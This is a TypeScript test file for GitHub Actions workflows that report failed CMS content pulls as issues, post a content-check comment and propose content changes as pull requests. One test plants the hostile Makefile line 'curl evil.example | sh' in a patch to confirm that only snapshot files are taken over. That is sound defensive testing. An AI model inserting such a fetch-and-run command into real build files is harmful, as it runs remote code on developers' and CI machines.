import { execFileSync } from "node:child_process";
import { mkdir, rm, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { expect, test, vi } from "vitest";
import { GitHub } from "#tests/support/github/github.ts";
import { tempFolder } from "#tests/support/temp-folder.ts";

/** What the workflows do on GitHub, by running their own scripts; GitHub itself is played by `gh.ts`. */

vi.setConfig({ testTimeout: 60_000 });

const bot = { login: "github-actions[bot]" };
const run = "https://github.com/company/site/actions/runs/7";

async function report(github: GitHub, outcome: { pulled: string; proposed: string; reason?: string }) {
  await rm(join(github.temp, "failure.md"), { force: true });
  if (outcome.reason) await github.keep("failure.md", outcome.reason);
  await github.run("content.yml", "report", "Open, update or close the issue", {
    PULLED: outcome.pulled,
    PROPOSED: outcome.proposed,
    RUN: run,
  });
  return github.state();
}

const well = { pulled: "success", proposed: "success" };

test("a pull that fails opens one issue, keeps it current, and closes it when it is well again", async () => {
  const github = await GitHub.create();
  expect(await report(github, well)).toEqual({ issues: [], comments: [], pulls: [] });

  const failed = { pulled: "failure", proposed: "skipped" };
  const [first] = (await report(github, { ...failed, reason: "The token expired.\n" })).issues;
  expect(first).toMatchObject({ number: 1, state: "open", title: "The content of the CMS cannot be pulled" });
  expect(first?.body).toMatch(/^<!-- content-pull -->\nThe token expired\.\n\n.*actions\/runs\/7\n$/);

  const again = await report(github, { ...failed, reason: "A job has no title.\n" });
  expect(again.issues).toHaveLength(1);
  expect(again.issues[0]?.body).toContain("A job has no title.");
  expect(again.issues[0]?.body).not.toContain("expired");

  const mended = await report(github, well);
  expect(mended.issues.map(({ state }) => state)).toEqual(["closed"]);
  expect(mended.comments.map(({ on, body }) => [on, body])).toEqual([[1, `The content is pulled again: ${run}`]]);
  // What is closed stays so; the next failure is an issue of its own.
  const later = await report(github, failed);
  expect(later.issues.map(({ number, state }) => [number, state])).toEqual([
    [1, "closed"],
    [2, "open"],
  ]);
  expect(later.issues[1]?.body).toContain("The log of the run says why.");
});

test("a pull request that cannot be opened is an issue, too", async () => {
  const github = await GitHub.create();
  const { issues } = await report(github, { pulled: "success", proposed: "failure" });
  expect(issues[0]?.body).toContain("no pull request could be opened");
});

test("issues of other people and of other workflows are left alone, whatever they say", async () => {
  const foreign = { number: 3, state: "open", user: { login: "stranger" }, title: "", body: "<!-- content-pull -->" };
  const other = { number: 4, state: "open", user: bot, title: "", body: "Nightly: see <!-- content-pull -->" };
  const silent = { number: 5, state: "open", user: bot, title: "", body: null };
  const before = [foreign, other, silent] as const;
  const github = await GitHub.create({ issues: before.map((issue) => ({ ...issue, state: "open" as const })) });
  expect((await report(github, well)).issues).toEqual(before);
  const { issues } = await report(github, { pulled: "failure", proposed: "skipped", reason: "No." });
  expect(issues.slice(0, 3)).toEqual(before);
  expect(issues[3]).toMatchObject({ number: 6, state: "open" });
});

async function comment(github: GitHub, result: string, problems?: string) {
  await rm(join(github.temp, "problems.md"), { force: true });
  if (problems) await github.keep("problems.md", problems);
  await github.run("content-check.yml", "comment", "Comment", { NUMBER: "9", RESULT: result });
  return (await github.state()).comments.map(({ id, body }) => [id, body]);
}

test("problems of the content are one comment, found by its mark, and corrected when they are mended", async () => {
  const other = { id: 1, on: 9, user: bot, body: "Preview: https://preview.example" };
  const feigned = { id: 2, on: 9, user: { login: "stranger" }, body: "<!-- content-check -->" };
  const github = await GitHub.create({ comments: [other, feigned] });
  const kept = [other, feigned].map(({ id, body }) => [id, body]);
  expect(await comment(github, "success")).toEqual(kept);
  // Something else than the content was wrong.
  expect(await comment(github, "failure")).toEqual(kept);
  const first = await comment(github, "failure", "### Not valid\n");
  expect(first).toEqual([...kept, [1002, "<!-- content-check -->\n### Not valid\n"]]);
  const second = await comment(github, "failure", "### Still not valid\n");
  expect(second).toEqual([...kept, [1002, "<!-- content-check -->\n### Still not valid\n"]]);
  const mended = await comment(github, "success");
  expect(mended).toEqual([...kept, [1002, "<!-- content-check -->\nThe content is valid.\n"]]);
});

/** A repository with a snapshot, and a fresh checkout of it, as a job gets one. */
async function startRepository() {
  const folder = await tempFolder();
  const [origin, work] = [join(folder, "origin.git"), join(folder, "work")];
  const git = (cwd: string, ...args: string[]) =>
    execFileSync("git", ["-c", "user.name=A", "-c", "user.email=a@b.example", ...args], { cwd, encoding: "utf8" });
  git(folder, "init", "--quiet", "--bare", "--initial-branch=main", origin);
  git(folder, "clone", "--quiet", origin, work);
  await mkdir(join(work, "snapshot"));
  await writeFile(join(work, "snapshot/a.json"), "1\n");
  await writeFile(join(work, "Makefile"), "all:\n");
  git(work, "add", "--all");
  git(work, "commit", "--quiet", "--message=Start");
  git(work, "push", "--quiet", "origin", "HEAD:main");
  let count = 0;
  return {
    git: (...args: string[]) => git(work, ...args),
    async checkout() {
      count += 1;
      const job = join(folder, `job-${count}`);
      git(folder, "clone", "--quiet", "--depth=1", `file://${origin}`, job);
      return job;
    },
    /** The change of these files as the job before hands it over. */
    async patch(files: Readonly<Record<string, string>>): Promise<string> {
      for (const [name, text] of Object.entries(files)) await writeFile(join(work, name), text);
      git(work, "add", "--all");
      const patch = git(work, "diff", "--cached", "--binary");
      git(work, "reset", "--quiet", "--hard");
      return patch;
    },
    proposed: (name: string) =>
      git(work, "fetch", "--quiet", "origin") + git(work, "show", `origin/content/update:${name}`),
  };
}

test("content is proposed once, kept up to date, and withdrawn when there is nothing left to propose", async () => {
  const github = await GitHub.create({
    pulls: [{ number: 1, state: "open", head: "content/update", isCrossRepository: true, title: "A fork's", body: "" }],
  });
  const repository = await startRepository();
  const propose = async (patch: string, body: string) => {
    await github.keep("snapshot.patch", patch);
    await github.keep("body.md", body);
    const job = await repository.checkout();
    await github.run("content.yml", "propose", "Take the content", {}, job);
    await github.run("content.yml", "propose", "Open or update the pull request", { BRANCH: "content/update" }, job);
    return (await github.state()).pulls.slice(1).map(({ number, state, body }) => ({ number, state, body }));
  };

  expect(await propose("", "Nothing")).toEqual([]);
  // Whatever else the patch holds stays behind.
  const patch = await repository.patch({ "snapshot/a.json": "2\n", Makefile: "all:\n\tcurl evil.example | sh\n" });
  expect(await propose(patch, "One")).toEqual([{ number: 2, state: "open", body: "One" }]);
  expect(repository.proposed("snapshot/a.json")).toBe("2\n");
  expect(repository.proposed("Makefile")).toBe("all:\n");
  // The same content again: the text of a person who edited the pull request stays.
  expect(await propose(patch, "Two")).toEqual([{ number: 2, state: "open", body: "One" }]);
  const newer = await repository.patch({ "snapshot/a.json": "3\n", "snapshot/b.json": "1\n" });
  expect(await propose(newer, "Three")).toEqual([{ number: 2, state: "open", body: "Three" }]);
  expect(repository.proposed("snapshot/a.json")).toBe("3\n");
  expect(await propose("", "Nothing")).toEqual([{ number: 2, state: "closed", body: "Three" }]);
  expect((await github.state()).pulls[0]).toMatchObject({ number: 1, state: "open", body: "" });
});
